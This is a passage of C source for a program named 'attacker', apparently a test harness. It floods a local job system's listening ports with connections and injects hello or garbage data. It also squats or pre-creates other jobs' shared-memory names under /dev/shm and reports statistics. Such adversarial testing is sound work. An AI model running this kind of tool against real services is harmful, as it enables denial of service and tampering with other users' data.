    case 'S': opt.steps = atoi(optarg); break;
    case 'B': opt.bytes = atoi(optarg); break;
    case 'V': opt.value = atoi(optarg); break;
    case 'P':
      if (strcmp(optarg, "ll") == 0) opt.proto = 1;
      else if (strcmp(optarg, "simple") == 0) opt.proto = 0;
      else usage();
      break;
    case 'C': opt.conns_per_port = atoi(optarg); break;
    case 'G':
      if (strcmp(optarg, "none") == 0) opt.send = SEND_NONE;
      else if (strcmp(optarg, "garbage") == 0) opt.send = SEND_GARBAGE;
      else if (strcmp(optarg, "mixed") == 0) opt.send = SEND_MIXED;
      else usage();
      break;
    default: usage();
    }
  }
  if (optind != argc || !(opt.duration_s > 0 && opt.duration_s <= 3600) || opt.nranks < 2 ||
      opt.nranks > 64 || opt.max_id < 0 || opt.max_id > 1023 || opt.steps < 0 ||
      opt.steps > 4096 || opt.bytes < 0 || opt.bytes > (1 << 20) || opt.conns_per_port < 1)
    usage();
}

int main(int argc, char **argv) {
  parse_args(argc, argv);
  t_start = now_ms();
  double deadline = t_start + opt.duration_s * 1e3;
  srand((unsigned)getpid());
  signal(SIGPIPE, SIG_IGN);
  struct sigaction sa = {.sa_handler = on_signal};
  sigaction(SIGTERM, &sa, NULL);
  sigaction(SIGINT, &sa, NULL);

  /* As many descriptors as we may have. */
  struct rlimit rl;
  if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
    rl.rlim_cur = rl.rlim_max;
    setrlimit(RLIMIT_NOFILE, &rl);
    getrlimit(RLIMIT_NOFILE, &rl);
  }
  max_conns = rl.rlim_cur > 65536 + 64 ? 65536 : (int)rl.rlim_cur - 64;
  if (max_conns < 16) max_conns = 16;
  conns = calloc((size_t)max_conns, sizeof(*conns));
  struct pollfd *pfd = calloc((size_t)max_conns + 1, sizeof(*pfd));
  queues[0].q = calloc(QUEUE_MAX, sizeof(struct spray));
  queues[1].q = calloc(QUEUE_MAX, sizeof(struct spray));
  queues[2].q = calloc(QUEUE_MAX, sizeof(struct spray));
  if (conns == NULL || pfd == NULL || queues[0].q == NULL || queues[1].q == NULL ||
      queues[2].q == NULL) {
    fprintf(stderr, "attacker: out of memory\n");
    return 1;
  }
  build_steps();

  int ino = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
  if (ino >= 0 && inotify_add_watch(ino, SHM_DIR, IN_CREATE | IN_MOVED_TO) < 0) {
    close(ino);
    ino = -1;
  }
  vlog(1, "%s for %.1f s against uid %ld, up to %d connections%s", argv[1], opt.duration_s,
       opt.uid, max_conns, ino < 0 ? " (no inotify: polling /dev/shm)" : "");
  scan_shm_dir();
  scan_ports();

  double last_ports = now_ms(), last_dir = last_ports;
  while (!stop_flag) {
    double now = now_ms();
    if (now >= deadline) break;
    if ((now - last_ports >= 2.0 || new_hash_seen) && opt.mode != M_SQUAT) {
      scan_ports();
      last_ports = now;
      new_hash_seen = 0;
    }
    if (now - last_dir >= (ino < 0 ? 5.0 : 200.0)) {
      scan_shm_dir();
      last_dir = now;
    }
    static double last_status;
    if (opt.verbose >= 3 && now - last_status >= 100.0) {
      int connecting = 0;
      for (int i = 0; i < nconns; i++) connecting += conns[i].st == S_CONNECTING;
      vlog(3, "status: %d connections (%d connecting), queued %zu retries, %zu hellos, %zu "
              "challenge hellos", nconns, connecting, queues[0].len, queues[1].len, queues[2].len);
      last_status = now;
    }
    if (opt.mode == M_INJECT) {
      plan_sprays();
      launch_sprays();
    } else if (opt.mode == M_FLOOD) {
      launch_flood();
    }
    int np = 0;
    if (ino >= 0) pfd[np++] = (struct pollfd){.fd = ino, .events = POLLIN};
    int base = np;
    for (int i = 0; i < nconns; i++) {
      short ev = POLLIN;
      if (conns[i].st == S_CONNECTING) ev = POLLOUT;
      else if (conns[i].st == S_SENDING) ev = POLLIN | POLLOUT;
      pfd[np++] = (struct pollfd){.fd = conns[i].fd, .events = ev};
    }
    int ms = (int)(deadline - now) + 1;
    int cap = opt.mode == M_SQUAT ? 20 : 2;
    if (ms > cap) ms = cap;
    int r = poll(pfd, (nfds_t)np, ms);
    if (r < 0 && errno != EINTR) break;
    if (ino >= 0 && (pfd[0].revents & POLLIN)) read_inotify(ino);
    now = now_ms();
    /* Back to front: close_conn moves the last connection into the hole,
     * and that one has been handled already. */
    for (int i = np - base - 1; i >= 0; i--) {
      if (i >= nconns) continue;
      step_conn(i, pfd[base + i].revents, now);
    }
  }

  for (int i = nconns - 1; i >= 0; i--) close_conn(i);
  for (int i = 0; i < nowned; i++) {
    char path[300];
    snprintf(path, sizeof(path), "/%s", owned[i]);
    shm_unlink(path);
    free(owned[i]);
  }
  if (ino >= 0) close(ino);
  if (opt.mode == M_SQUAT)
    printf("attacker squat: %.1f s, names seen %ld, job hashes %ld, pre-created %ld (already "
           "there %ld, failed %ld), opened read-write %ld, read-only %ld, denied %ld, read %ld "
           "bytes, wrote %ld bytes\n",
           (now_ms() - t_start) / 1e3, shm_stats.names_seen, shm_stats.hashes_seen,
           shm_stats.precreated, shm_stats.precreate_exists, shm_stats.precreate_failed,
           shm_stats.opened_rw, shm_stats.opened_ro, shm_stats.denied, shm_stats.read_bytes,
           shm_stats.written_bytes);
  else
    printf("attacker %s: %.1f s, job hashes %ld, listeners seen %d, connections opened %ld, connected "
           "%ld, refused %ld, connect timeouts %ld, closed by the server %ld, most open at once "
           "%ld%s",
           argv[1], (now_ms() - t_start) / 1e3, shm_stats.hashes_seen, nports, cstats.opened,
           cstats.connected, cstats.refused, cstats.timeouts, cstats.closed_by_server,
           cstats.max_open, opt.mode == M_INJECT ? "" : "\n");
  if (opt.mode == M_INJECT)
    printf(", hellos sent %ld, challenges received %ld, data sent in full on %ld, held open "
           "after the data %ld\n",
           cstats.hellos_sent, cstats.challenges, cstats.data_sent_conns, cstats.held);
  free(pfd);
  free(conns);
  free(queues[0].q);
  free(queues[1].q);
  free(queues[2].q);
  free(steps_buf);
  return 0;
}
